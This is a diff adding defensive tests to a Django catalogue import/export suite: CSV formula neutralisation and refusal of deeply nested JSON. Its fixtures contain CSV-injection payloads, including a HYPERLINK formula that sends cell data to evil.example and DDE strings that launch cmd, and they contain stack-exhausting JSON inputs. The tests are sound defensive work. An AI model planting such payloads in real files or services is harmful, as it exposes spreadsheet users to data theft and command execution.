@@ -1,6 +1,7 @@
 """Bulk import and export of the catalogue: dry runs, atomicity, idempotence and
 a lossless round trip."""
 
+import csv
 import datetime
 import io
 import json
@@ -12,6 +13,8 @@ from django.core.management.base import CommandError
 from licenses.models import Family
 from portal.publishing.models import State
 from portal.publishing.policy import SYSTEM
+from portal.text.json_input import MAX_DEPTH
+from projects.catalogue_format import neutralise_formula, restore_formula
 from projects.exports import catalogue_rows, export_csv, export_json
 from projects.imports import ImportFileError, import_catalogue, read_file
 from projects.models import LicenseChange, Project, Release
@@ -196,6 +199,78 @@ def test_export_then_import_round_trips_with_nothing_lost(catalogue, fmt, export
     assert snuba.releases.get(version="24.1.0").converts_on == D(2026, 1, 1)
 
 
+# Cells a spreadsheet runs as formulas (OWASP, "CSV Injection"), and text that
+# only looks neutralised already.
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Snuba")',
+    "summary": "+cmd|' /C calc'!A0",
+    "description": "- a Markdown list\n- of two items",
+    "licensor": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "licensed_work": "-2+3",
+    "additional_use_grant": "'=already quoted",
+}
+
+
+def test_csv_export_writes_formulas_as_text(catalogue):
+    Project.objects.filter(slug="snuba").update(**FORMULAS)
+    LicenseChange.objects.filter(note="a; b | c").update(note="=1+1")
+    Release.objects.filter(version="23.11.0").update(version="-1")
+    rows = catalogue_rows()
+
+    exported = csv.DictReader(io.StringIO(export_csv(rows)))
+    cells = {row["slug"]: row for row in exported}
+
+    snuba = cells["snuba"]
+    assert {name: snuba[name] for name in FORMULAS} == {
+        name: f"'{value}" for name, value in FORMULAS.items()
+    }
+    assert snuba["releases"].startswith("'-1|2023-11-15")
+    assert snuba["license_history"].startswith("|BSD-3-Clause|=1+1")  # not first
+    assert cells["relay"]["name"] == "Relay"  # any other cell is as it is
+    # JSON is exact.
+    snuba_json = json.loads(export_json(rows))["projects"][1]
+    assert {name: snuba_json[name] for name in FORMULAS} == FORMULAS
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tcode", "'\tcode"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),
+        ("''-1", "'''-1"),
+        ("'quoted", "'quoted"),
+        ("'", "'"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("", ""),
+    ],
+)
+def test_a_neutralised_cell_reads_back_as_it_was(cell, written):
+    assert neutralise_formula(cell) == written
+    assert restore_formula(written) == cell
+
+
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_formula_cells_round_trip_with_nothing_lost(catalogue, fmt):
+    Project.objects.filter(slug="snuba").update(**FORMULAS)
+    Release.objects.filter(version="23.11.0").update(version="-1")
+    before = catalogue_rows()
+    text = export_csv(before) if fmt == "csv" else export_json(before)
+    Release.objects.all().delete()
+    LicenseChange.objects.all().delete()
+    Project.objects.all().delete()
+
+    report = run(text, fmt)
+
+    assert report.ok, [str(e) for e in report.errors]
+    assert catalogue_rows() == before
+
+
 def test_changed_row_updates_only_that_project(catalogue):
     rows = catalogue_rows()
     rows[0]["summary"] = "A new summary."
@@ -223,6 +298,46 @@ def test_unreadable_files_are_refused_with_a_reason(db, content, fmt, message):
     with pytest.raises(ImportFileError) as error:
         read_file(content, fmt)
     assert message in str(error.value)
+
+
+# Python's JSON parser recurses once per level: this deep, it ran out of stack
+# (a RecursionError: a 500 in the admin, a traceback from the command).
+DEEP_JSON = {
+    "arrays": "[" * 100_000,
+    "objects": '{"projects": ' + '{"a":' * 100_000,
+    "one too many": "[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1),
+}
+TOO_DEEP = f"The JSON nests deeper than {MAX_DEPTH} levels."
+
+
+@pytest.mark.parametrize("content", DEEP_JSON.values(), ids=DEEP_JSON)
+def test_deeply_nested_json_is_refused_with_a_reason(db, content):
+    with pytest.raises(ImportFileError, match=TOO_DEEP):
+        read_file(content, "json")
+
+
+def test_command_refuses_deeply_nested_json(licenses, tmp_path, make_staff):
+    make_staff("bot", "Editor")
+    path = tmp_path / "catalogue.json"
+    path.write_text(DEEP_JSON["arrays"], encoding="utf-8")
+
+    with pytest.raises(CommandError, match=TOO_DEEP):
+        call_command("import_projects", str(path), "--user", "bot")
+
+
+def test_brackets_inside_json_strings_are_text(licenses):
+    item = {
+        "slug": "x",
+        "name": "X",
+        "summary": "[" * 200,
+        "license_expression": "MIT",
+        "description": "{" * 5000,
+    }
+
+    report = run(json.dumps({"projects": [item]}), "json")
+
+    assert report.ok, [str(e) for e in report.errors]
+    assert Project.objects.get().description == "{" * 5000
 
 
 def test_json_rows_with_wrong_types_are_errors_not_crashes(licenses):
